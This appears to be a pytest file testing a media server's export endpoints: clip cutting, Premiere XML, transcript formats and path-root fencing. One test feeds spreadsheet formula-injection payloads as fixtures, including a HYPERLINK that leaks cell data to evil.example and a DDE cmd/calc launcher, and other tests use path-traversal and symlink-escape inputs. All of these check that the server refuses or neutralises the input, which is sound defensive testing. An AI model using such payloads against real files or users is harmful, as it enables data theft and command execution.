"""Exports through HTTP on a real server: clips cut by the real ffmpeg, Premiere XML read back
with OpenTimelineIO, transcripts in every format, and the export/media roots fence."""

from __future__ import annotations

import csv
import io
import os
import shutil
import time
import urllib.parse
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import av
import numpy as np
import opentimelineio as otio
import pytest
import requests
from docx import Document
from pypdf import PdfReader

from tests.conftest import DATA, ProgressListener, start_server
from tests.test_export_clips import COUNTER, GOP_SECONDS, _small_gray, frame_numbers

SEGMENTS = [
    [0.32, "Hello world.", 5.84],
    [5.84, "Grüße aus Köln — ça va?", 11.2],
    [14.0, "Третья строка.", 16.5],  # 2.8 s after the last one: a silence row between
]


@pytest.fixture(scope="module")
def source_frames() -> list[np.ndarray]:
    with av.open(str(COUNTER)) as container:
        return [_small_gray(f) for f in container.decode(video=0)]


@pytest.fixture()
def counter(tmp_path) -> Path:
    folder = tmp_path / "media"
    folder.mkdir()
    return Path(shutil.copy(COUNTER, folder / "counter.mp4"))


def clip(source: Path, start: float, end: float, **extra) -> dict:
    return {"source_path": str(source), "start_seconds": start, "end_seconds": end, **extra}


# --- /export/clips -----------------------------------------------------------------------------


def test_reencoded_clips_are_frame_accurate_and_copied_ones_play(server, counter, tmp_path, source_frames):
    out = tmp_path / "exports"

    encoded = server.post("/export/clips", {"clips": [clip(counter, 1, 2), clip(counter, 1.05, 1.55)],
                                            "output_dir": str(out), "copy_codec": False})

    assert encoded.status_code == 200, encoded.text
    assert encoded.json() == {
        "results": [{"success": True, "output_path": str(out / "counter_1-2.mp4")},
                    {"success": True, "output_path": str(out / "counter_1.05-1.55.mp4")}],
        "summary": "2/2 clips exported successfully",
    }
    assert frame_numbers(out / "counter_1-2.mp4", source_frames) == list(range(10, 20))
    # 1.05 s shows frame 10; the last frame starting before 1.55 s is frame 15.
    assert frame_numbers(out / "counter_1.05-1.55.mp4", source_frames) == list(range(10, 16))

    # copy_codec defaults to true: no re-encode, so the cut may start at the keyframe before.
    copied = server.post("/export/clips", {"clips": [clip(counter, 1, 2, subfolder="highlights/day 1")],
                                           "output_dir": str(out)})
    assert copied.status_code == 200, copied.text
    path = out / "highlights" / "day 1" / "counter_1-2.mp4"
    assert copied.json()["results"] == [{"success": True, "output_path": str(path)}]
    assert set(range(10, 20)) <= set(frame_numbers(path, source_frames))
    with av.open(str(path)) as container:
        assert 1.0 - 1e-3 <= container.duration / 1_000_000 <= 1.0 + GOP_SECONDS
    assert [p.name for p in out.rglob(".*")] == []  # no temp file left behind


def test_existing_files_are_kept_and_a_bad_clip_fails_alone(server, counter, tmp_path):
    out = tmp_path / "exports"
    out.mkdir()
    (out / "counter_0-1.mp4").write_bytes(b"the editor's own cut")
    clips = [
        clip(counter, 0, 1),
        clip(counter.with_name("missing.mp4"), 0, 1),
        clip(counter, 2, 1),
        clip(counter, 5, 6),
        clip(counter, 0, 1, subfolder="../escape"),
        clip(counter, 0, 1),
    ]

    response = server.post("/export/clips", {"clips": clips, "output_dir": str(out), "copy_codec": False})

    assert response.status_code == 200, response.text
    body = response.json()
    assert body["summary"] == "2/6 clips exported successfully"
    results = body["results"]
    assert [r["success"] for r in results] == [True, False, False, False, False, True]
    assert results[0]["output_path"] == str(out / "counter_0-1 (1).mp4")
    assert results[5]["output_path"] == str(out / "counter_0-1 (2).mp4")
    assert "missing.mp4" in results[1]["error"] and "not found" in results[1]["error"]
    assert "greater than start_seconds" in results[2]["error"]
    assert "past the end" in results[3]["error"]
    assert "inside output_dir" in results[4]["error"]
    for entry, sent in zip(results[1:5], clips[1:5], strict=True):
        assert entry["source_path"] == sent["source_path"]
    assert (out / "counter_0-1.mp4").read_bytes() == b"the editor's own cut"
    assert not (tmp_path / "escape").exists()


def test_bad_clip_requests_are_400(server, counter, tmp_path):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    good = clip(counter, 0, 1)
    for body in (
        {"clips": [], "output_dir": str(tmp_path)},
        {"clips": [good]},
        {"clips": [good], "output_dir": "relative/out"},
        {"clips": [good], "output_dir": str(a_file)},
        {"clips": [{"start_seconds": 0, "end_seconds": 1}], "output_dir": str(tmp_path)},
        {"clips": [{**good, "start_seconds": "soon"}], "output_dir": str(tmp_path)},
        {"clips": [{**good, "start_seconds": -1}], "output_dir": str(tmp_path)},
        {"clips": "all of them", "output_dir": str(tmp_path)},
        {"clips": [good], "output_dir": str(tmp_path), "copy_codec": "maybe"},
    ):
        response = server.post("/export/clips", body)
        assert response.status_code == 400, (body, response.text)
        assert response.json()["error"]


def test_a_long_export_reports_progress_and_the_server_keeps_answering(server, tmp_path):
    source = Path(shutil.copy(DATA / "testvideo.mp4", tmp_path / "long.mp4"))
    body = {"clips": [clip(source, 0, 12)], "output_dir": str(tmp_path / "exports"), "copy_codec": False,
            "task_id": "export-progress-test"}
    with ProgressListener(server.base) as listener:
        listener.join(body["task_id"])
        with ThreadPoolExecutor(1) as pool:
            export_started = time.monotonic()
            export = pool.submit(server.post, "/export/clips", body)
            latencies = []
            while not export.done():
                started = time.monotonic()
                assert requests.get(f"{server.api}/health", timeout=60).ok
                latencies.append(time.monotonic() - started)
                time.sleep(0.1)
            response = export.result()
            export_seconds = time.monotonic() - export_started
        assert listener.done[body["task_id"]].wait(10)
    assert response.status_code == 200 and response.json()["summary"] == "1/1 clips exported successfully"
    # Relative to the export itself, so it holds on a fast or a loaded machine: a server that
    # blocked while exporting would answer only when the export is done.
    assert len(latencies) >= 2
    assert max(latencies) < max(1.0, export_seconds / 2), (latencies, export_seconds)
    progress = [e["progress"] for e in listener.events[body["task_id"]]]
    assert progress == sorted(progress) and progress[-1] == 100
    assert any(0 < p < 100 for p in progress)
    assert all(e["type"] == "export" for e in listener.events[body["task_id"]])


# --- /export/premiere-xml ----------------------------------------------------------------------


def test_premiere_xml_opens_in_otio_with_spaces_and_non_ascii_paths(server, tmp_path):
    source_dir = tmp_path / "my media" / "été"
    source_dir.mkdir(parents=True)
    source = Path(shutil.copy(COUNTER, source_dir / "Интервью & 'take' 1.mp4"))
    output = tmp_path / "exports" / "séquence finale" / "cut one.xml"
    clips = [clip(source, 1, 2.5), clip(source, 0, 1)]

    response = server.post("/export/premiere-xml", {"sequence_name": "Interview Highlights", "clips": clips,
                                                     "output_path": str(output), "timebase": 30})

    assert response.status_code == 200, response.text
    assert response.json() == {"output_path": str(output), "clip_count": 2, "total_duration_seconds": 2.5}
    timeline = otio.adapters.read_from_file(str(output), adapter_name="fcp_xml")
    assert timeline.name == "Interview Highlights"
    assert timeline.global_start_time.rate == 30
    (video,) = [t for t in timeline.tracks if t.kind == otio.schema.TrackKind.Video]
    found = list(video.find_clips())
    assert len(found) == 2
    for item, wanted in zip(found, clips, strict=True):
        assert item.name == source.name
        assert item.source_range.start_time.rate == 10  # the source's own frame rate
        assert item.source_range.start_time.to_seconds() == pytest.approx(wanted["start_seconds"])
        assert item.source_range.duration.to_seconds() == pytest.approx(
            wanted["end_seconds"] - wanted["start_seconds"])
        target = urllib.parse.unquote(urllib.parse.urlparse(item.media_reference.target_url).path)
        assert target == str(source)
    # Readable by an editor on the same share, not only by the server's user.
    assert os.stat(output).st_mode & 0o044 == 0o044


def test_premiere_xml_bad_requests_are_400(server, counter, tmp_path):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    for body in (
        {"clips": [clip(counter, 0, 1)]},
        {"clips": [], "output_path": str(tmp_path / "x.xml")},
        {"clips": [clip(counter.with_name("missing.mp4"), 0, 1)], "output_path": str(tmp_path / "x.xml")},
        {"clips": [clip(counter, 0, 1)], "output_path": str(tmp_path)},
        {"clips": [clip(counter, 0, 1)], "output_path": str(a_file / "x.xml")},
        {"clips": [clip(counter, 0, 1)], "output_path": str(tmp_path / "x.xml"), "timebase": 0},
        {"clips": [clip(counter, 0, 1)], "output_path": str(tmp_path / "x.xml"), "timebase": "fast"},
    ):
        response = server.post("/export/premiere-xml", body)
        assert response.status_code == 400, (body, response.text)
        assert response.json()["error"]
    assert not (tmp_path / "x.xml").exists()


# --- /export/transcript ------------------------------------------------------------------------


def read_back(path: Path, fmt: str) -> str:
    if fmt == "docx":
        return "\n".join(p.text for p in Document(str(path)).paragraphs)
    if fmt == "pdf":
        return "\n".join(page.extract_text() for page in PdfReader(str(path)).pages)
    return path.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("fmt", ["txt", "csv", "docx", "pdf", "srt", "vtt"])
def test_transcript_in_every_format(server, tmp_path, fmt):
    output = tmp_path / "exports" / f"Interview à Köln.{fmt}"

    response = server.post("/export/transcript", {"segments": SEGMENTS, "format": fmt.upper() if fmt == "pdf"
                                                  else fmt, "display_name": "Interview à Köln",
                                                  "output_path": str(output)})

    assert response.status_code == 200, response.text
    subtitles = fmt in ("srt", "vtt")
    assert response.json() == {"output_path": str(output), "format": fmt,
                               "row_count": 3 if subtitles else 4}  # documents add the silence row
    text = read_back(output, fmt)
    for _, words, _ in SEGMENTS:
        assert words in text, (fmt, words, text)
    assert ("[silence]" in text) is not subtitles
    if fmt == "srt":
        assert "00:00:00,320 --> 00:00:05,840" in text
    if fmt == "vtt":
        assert text.startswith("WEBVTT") and "00:00:14.000 --> 00:00:16.500" in text
    if fmt in ("txt", "docx", "pdf"):
        assert "Interview à Köln" in text
    assert os.stat(output).st_mode & 0o044 == 0o044  # others on the share can open it


def test_transcript_without_silences_and_with_no_segments(server, tmp_path):
    output = tmp_path / "plain.txt"
    response = server.post("/export/transcript", {"segments": SEGMENTS, "include_silences": False,
                                                  "output_path": str(output)})
    assert response.status_code == 200
    assert response.json() == {"output_path": str(output), "format": "txt", "row_count": 3}
    assert "[silence]" not in output.read_text()

    empty = server.post("/export/transcript", {"segments": [], "format": "csv",
                                               "output_path": str(tmp_path / "empty.csv")})
    assert empty.status_code == 200 and empty.json()["row_count"] == 0


def test_csv_cells_cannot_run_as_spreadsheet_formulas(server, tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
               "@SUM(A1:A9)", "\t=1+1", "  =2+2", "a normal line"]
    output = tmp_path / "hostile.csv"
    segments = [[i * 2.0, text, i * 2.0 + 1.5] for i, text in enumerate(hostile)]

    response = server.post("/export/transcript", {"segments": segments, "format": "csv",
                                                  "output_path": str(output)})

    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8-sig"))))
    texts = [row["text"] for row in rows if row["text"] != "[silence]"]
    assert len(texts) == len(hostile)
    for text in texts[:-1]:
        assert text.startswith("'"), text
        assert text[1] in "=+-@"
    assert texts[-1] == "a normal line"
    for row in rows:
        assert not row["start"].startswith(("=", "+", "-", "@"))


def test_transcript_bad_requests_are_400(server, tmp_path):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    for body in (
        {"segments": SEGMENTS, "format": "rtf", "output_path": str(tmp_path / "t.rtf")},
        {"segments": SEGMENTS, "format": "txt", "output_path": str(a_file / "t.txt")},
        {"segments": SEGMENTS, "format": "txt", "output_path": str(tmp_path)},
        {"segments": SEGMENTS, "format": "txt", "output_path": "relative/t.txt"},
        {"segments": [[5.0, "backwards", 1.0]], "output_path": str(tmp_path / "t.txt")},
        {"segments": [["0", "text", 1.0]], "output_path": str(tmp_path / "t.txt")},
        {"segments": "hello", "output_path": str(tmp_path / "t.txt")},
        {"format": "txt", "output_path": str(tmp_path / "t.txt")},
    ):
        response = server.post("/export/transcript", body)
        assert response.status_code == 400, (body, response.text)
        assert response.json()["error"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a_file"]


# --- SIGHTLINE_EXPORT_ROOTS / SIGHTLINE_MEDIA_ROOTS --------------------------------------------


@pytest.fixture(scope="module")
def fenced(tmp_path_factory):
    """A server that may only read under media/ and write under exports/."""
    root = tmp_path_factory.mktemp("fenced")
    folders = {name: root / name for name in ("media", "exports", "outside")}
    for folder in folders.values():
        folder.mkdir()
    srv = start_server(root / "server", {"SIGHTLINE_MEDIA_ROOTS": str(folders["media"]),
                                         "SIGHTLINE_EXPORT_ROOTS": str(folders["exports"])})
    yield srv, folders
    srv.stop()


def test_paths_outside_the_roots_are_403(fenced):
    srv, folders = fenced
    media, exports, outside = folders["media"], folders["exports"], folders["outside"]
    inside_source = Path(shutil.copy(COUNTER, media / "counter.mp4"))
    outside_source = Path(shutil.copy(COUNTER, outside / "counter.mp4"))
    (media / "link.mp4").symlink_to(outside_source)
    (exports / "way out").symlink_to(outside, target_is_directory=True)
    good = clip(inside_source, 0, 1)

    def refused(path: str, body: dict, field: str) -> None:
        response = srv.post(path, body)
        assert response.status_code == 403, (path, body, response.text)
        assert field in response.json()["error"]

    for output_dir in (str(outside), f"{exports}/../outside", str(exports / "way out")):
        refused("/export/clips", {"clips": [good], "output_dir": output_dir}, "output_dir")
    for source in (outside_source, media / "link.mp4", Path(f"{media}/../outside/counter.mp4")):
        refused("/export/clips", {"clips": [clip(source, 0, 1)], "output_dir": str(exports)}, "source_path")
        refused("/export/premiere-xml", {"clips": [clip(source, 0, 1)], "output_path": str(exports / "a.xml")},
                "source_path")
    for output_path in (str(outside / "a.xml"), f"{exports}/../outside/a.xml", str(exports / "way out" / "a.xml")):
        refused("/export/premiere-xml", {"clips": [good], "output_path": output_path}, "output_path")
        refused("/export/transcript", {"segments": SEGMENTS, "output_path": output_path}, "output_path")
    # No output_path means ~/Desktop, which is outside the export roots too.
    refused("/export/transcript", {"segments": SEGMENTS}, "output_path")
    assert sorted(p.name for p in outside.iterdir()) == ["counter.mp4"]

    # Inside the fence everything works, and a symlinked subfolder cannot lead out of it.
    (exports / "cuts").mkdir()
    (exports / "cuts" / "way out").symlink_to(outside, target_is_directory=True)
    response = srv.post("/export/clips", {"clips": [good, clip(inside_source, 0, 1, subfolder="way out")],
                                          "output_dir": str(exports / "cuts")})
    assert response.status_code == 200, response.text
    results = response.json()["results"]
    assert results[0] == {"success": True, "output_path": str(exports / "cuts" / "counter_0-1.mp4")}
    assert results[1]["success"] is False and "outside output_dir" in results[1]["error"]
    xml = srv.post("/export/premiere-xml", {"clips": [good], "output_path": str(exports / "a.xml")})
    assert xml.status_code == 200, xml.text
    transcript = srv.post("/export/transcript", {"segments": SEGMENTS, "output_path": str(exports / "t.txt")})
    assert transcript.status_code == 200, transcript.text
    assert sorted(p.name for p in outside.iterdir()) == ["counter.mp4"]
